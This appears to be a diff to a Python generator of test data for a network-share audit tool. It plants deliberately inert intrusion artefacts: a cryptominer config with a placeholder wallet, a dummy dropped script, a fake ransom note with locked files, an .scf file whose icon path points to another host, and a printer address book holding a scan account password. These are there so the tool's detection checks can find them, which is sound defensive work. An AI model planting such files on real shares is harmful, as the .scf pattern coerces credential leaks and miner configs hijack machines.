@@ -10,11 +10,13 @@ from __future__ import annotations
 
 import gzip
 import io
+import json
 import random
 import struct
 import zipfile
 from pathlib import Path
 
+from labdata import PASSWORDS
 from pydicom.dataset import Dataset, FileMetaDataset
 from pydicom.fileset import FileSet
 from pydicom.uid import CTImageStorage, ExplicitVRLittleEndian, MRImageStorage, generate_uid
@@ -231,6 +233,59 @@ def populate_labnas(shares: Path) -> None:
         b"[ScanToFolder]\r\nserver=\\\\labnas\\scans\r\nuser=labscan\r\npassword=Scan-Pass1\r\n",
     )
     (shares / "spool").mkdir(parents=True, exist_ok=True)
+    plant_intrusion(scans)
+    plant_address_book(drivers)
+
+
+# --- signs of intrusion and keys under the mat (issue 14) --------------------------------------------
+# Benign stand-ins: nothing here runs or mines. They are shaped like what attackers leave behind so that
+# the crawl's name and head checks (shareaudit/classify/lookout.py) find them, and secret enough that a
+# test can grep every output for them.
+INERT_WALLET = "LAB-INERT-WALLET-4Bq7Zx9Kd2"  # where a miner config keeps its wallet: must never be printed
+COERCION_HOST = "127.0.0.99"  # an unused loopback address: nothing listens there
+LOCKED_FILES = 12
+
+
+def plant_intrusion(scans: Path) -> None:
+    """In the guest-writable scans share: a miner config, a dropped script and ELF, a ransom note with an
+    encryption sweep, and a .scf whose icon points to another host."""
+    config = {
+        "autosave": True,
+        "cpu": True,
+        "donate-level": 1,
+        "pools": [
+            {"url": f"stratum+tcp://{COERCION_HOST}:3333", "user": INERT_WALLET, "pass": "x", "algo": "rx/0"}
+        ],
+    }
+    _write(scans / "xmrig" / "config.json", json.dumps(config, indent=2).encode())
+    _write(
+        scans / "cleanup.sh",
+        b"#!/bin/sh\n# shareaudit lab stand-in for a dropped script: does nothing\nexit 0\n",
+    )
+    _write(scans / "kworkerd", Path("/bin/true").read_bytes())  # an ELF binary without an extension
+    swept = scans / "2024-03"
+    _write(swept / "HOW_TO_RECOVER_FILES.txt", b"Lab stand-in for a ransom note. Nothing was encrypted.\n")
+    rng = random.Random(1400)
+    for i in range(LOCKED_FILES):
+        name = f"scan_2024-03-{4 + i // 4:02d}_{i % 4 + 1:03d}.pdf.locked"
+        _write(swept / name, bytes(rng.randrange(256) for _ in range(300)))
+    _write(
+        scans / "@inventory.scf",
+        f"[Shell]\r\nCommand=2\r\nIconFile=\\\\{COERCION_HOST}\\share\\icon.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n".encode(),
+    )
+
+
+def plant_address_book(drivers: Path) -> None:
+    """In print$ (guest-readable): a Ricoh-style address book export with the scan account's password."""
+    lines = [
+        "# Format Version: 5.1.1.0",
+        "# Generated at: 2024-03-11 12:00:00",
+        "# Function Name: User Data Preference",
+        '"Index in ACLs and Groups","Name","Folder: Protocol","Folder: Path","Folder: User Name","Folder: Password"',
+        f'"[1]","[Scanner 2F]","[SMB]","[\\\\labnas\\scans]","[labscan]","[{PASSWORDS["labscan"]}]"',
+        '"[2]","[Reception]","[SMB]","[\\\\labnas\\scans]","[]","[]"',
+    ]
+    _write(drivers / "MFP_2F_addr.csv", ("\r\n".join(lines) + "\r\n").encode())
 
 
 # --- personality 2: labfs ----------------------------------------------------------------------
